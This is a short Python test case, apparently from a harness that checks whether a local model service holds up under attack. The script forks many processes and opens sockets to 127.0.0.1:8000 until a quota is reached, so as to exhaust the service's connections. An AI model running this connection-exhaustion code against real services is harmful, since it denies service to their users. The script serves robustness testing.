# claim: takes all connections that the model service has, from many processes
# expect: ok exit timeout
# service: asked
import os
import socket
import time

from attack import T

for _ in range(T["processes"] // 2):
    try:
        if os.fork() == 0:
            break
    except OSError:
        break
held = []
while len(held) < T["descriptors"]:
    try:
        one = socket.socket()
        one.setblocking(False)
        one.connect_ex(("127.0.0.1", 8000))
        held.append(one)
    except OSError:
        break
time.sleep(6)
